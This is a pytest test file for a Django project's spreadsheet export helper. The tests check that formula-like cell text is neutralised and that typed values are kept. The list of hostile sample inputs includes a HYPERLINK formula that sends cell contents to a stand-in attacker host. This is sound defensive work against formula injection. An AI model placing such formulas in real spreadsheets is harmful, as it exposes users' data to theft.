"""The one CSV/XLSX writer neutralises formula-like text and keeps typed values; nothing else writes spreadsheets."""

import csv
import datetime as dt
import io
import re
from decimal import Decimal
from pathlib import Path

import pytest
from django.conf import settings
from django.utils import timezone
from openpyxl import load_workbook

from patentbridge.core import spreadsheets
from patentbridge.core.spreadsheets import Sheet

HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"]
ROOT = Path(settings.BASE_DIR)


def read_csv(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text.lstrip("\ufeff"), newline="")))


def read_xlsx(content: bytes):
    return load_workbook(io.BytesIO(content)).active


@pytest.mark.parametrize("value", HOSTILE)
def test_formula_like_text_gets_a_leading_apostrophe(value):
    assert spreadsheets.neutralise(value) == "'" + value


@pytest.mark.parametrize("value", [-2, 3.5, Decimal("-120000.50"), dt.date(2026, 1, 1), True, None])
def test_typed_values_stay_as_they_are(value):
    assert spreadsheets.neutralise(value) == value


def test_plain_text_is_unchanged():
    assert spreadsheets.neutralise("一种机器人关节减速器 - 改进型") == "一种机器人关节减速器 - 改进型"


def test_an_aware_datetime_is_written_in_local_time_without_its_zone():
    moment = dt.datetime(2026, 1, 1, 0, 0, tzinfo=dt.UTC)
    sheet = read_xlsx(spreadsheets.xlsx_bytes(Sheet("T", [[moment]])))
    assert sheet["A1"].value == timezone.localtime(moment).replace(tzinfo=None)


@pytest.mark.parametrize("value", HOSTILE)
def test_csv_response_neutralises_every_cell(value):
    response = spreadsheets.csv_response([["header"], [value, -2]], "t.csv")
    assert read_csv(response.content.decode("utf-8"))[1] == ["'" + value, "-2"]


def test_csv_file_has_a_byte_order_mark_for_excel(tmp_path):
    path = spreadsheets.csv_file(tmp_path / "t.csv", [["=1"]])
    assert path.read_bytes().startswith(b"\xef\xbb\xbf")


@pytest.mark.parametrize("value", HOSTILE)
def test_xlsx_cells_are_text_not_formulas(value):
    sheet = read_xlsx(spreadsheets.xlsx_bytes(Sheet("T", [[value]], header=["=header"])))
    assert [c.data_type for c in sheet[1] + sheet[2]] == ["s", "s"]
    assert sheet["A2"].value.startswith("'") and sheet["A1"].value == "'=header"


def test_xlsx_keeps_a_negative_number_numeric():
    sheet = read_xlsx(spreadsheets.xlsx_bytes(Sheet("T", [[-2, Decimal("-3.5")]])))
    assert (sheet["A1"].value, sheet["A1"].data_type, sheet["B1"].value) == (-2, "n", -3.5)


def test_xlsx_drops_control_characters_openpyxl_refuses():
    sheet = read_xlsx(spreadsheets.xlsx_bytes(Sheet("T", [["a\x01b"]])))
    assert sheet["A1"].value == "ab"


# Reading spreadsheets (imports) is allowed everywhere; writing only through the helper. Tests build input files.
WRITERS = re.compile(r"csv\.writer\b|DictWriter|from csv import[^\n]*\bwriter\b|(?<![\w.])Workbook\b"
                     r"|openpyxl\.Workbook|\.active\.append\(|xlsxwriter|\.to_csv\(|\.to_excel\(")


def test_no_module_outside_the_helper_writes_csv_or_xlsx_itself():
    helper = ROOT / "patentbridge/core/spreadsheets.py"
    sources = [*ROOT.glob("patentbridge/**/*.py"), *ROOT.glob("scripts/**/*.py")]
    offenders = [str(p.relative_to(ROOT)) for p in sources
                 if p != helper and "tests" not in p.parts and WRITERS.search(p.read_text(encoding="utf-8"))]
    assert offenders == []
